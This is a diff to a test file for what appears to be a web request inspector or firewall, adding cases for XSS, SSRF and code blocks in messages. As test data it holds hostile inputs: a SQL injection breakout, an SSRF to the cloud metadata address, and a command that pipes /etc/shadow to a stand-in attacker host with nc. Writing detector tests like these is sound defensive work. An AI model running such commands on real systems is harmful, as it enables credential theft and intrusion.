@@ -47,6 +47,7 @@ describe('xss: markup after a quote and ">" the page opened', () => {
 
   it('an XSLT style sheet processing instruction loads active content', () => {
     expect(q('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>')).toContain('xss.active-element');
+    expect(q('<?xsl-stylesheet?>')).not.toContain('xss.active-element');
   });
 });
 
@@ -137,6 +138,16 @@ describe('false alarms fixed', () => {
     expect(ruleIds(createInspector({ paranoia: 3 }), jsonRequest('redirect_uri', 'http://127.0.0.1:8080/cb'))).toContain('ssrf.loopback-browser-url');
     expect(pl2.inspect(jsonRequest('webhook_url', 'http://localhost:8080/admin')).blocked).toBe(true);
     expect(pl2.inspect(jsonRequest('redirect_uri', 'http://169.254.169.254/latest/meta-data/')).blocked).toBe(true);
+  });
+
+  it('a fenced code block in a message is shown, not run; a breakout in it still counts', () => {
+    expect(passes(jsonRequest('content', "Here's the query I ran:\n```sql\nSELECT name, email FROM users WHERE created_at > '2024-01-01' ORDER BY name;\n```\nreturns 42 rows"))).toBe(true);
+    expect(passes(jsonRequest('body', 'Install the CLI first:\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nthen run the setup wizard.'))).toBe(true);
+    expect(pl2.inspect(jsonRequest('body', "look at this, it breaks the login page:\n```\nadmin' OR 1=1 -- \n```")).blocked).toBe(true);
+    // A value that is mostly a fence is code: read as it is.
+    expect(pl2.inspect(jsonRequest('body', '```\n; cat /etc/shadow | nc evil.example 4444\n```')).blocked).toBe(true);
+    // MySQL's back-tick identifiers are not markdown code spans.
+    expect(pl2.inspect(jsonRequest('body', 'ALTER TABLE `mass_mails` CHANGE `receivers` `receivers` ENUM(\'A\',\'B\') CHARACTER SET utf8')).blocked).toBe(true);
   });
 
   it('a path under a system directory is weak alone; sensitive files are not', () => {
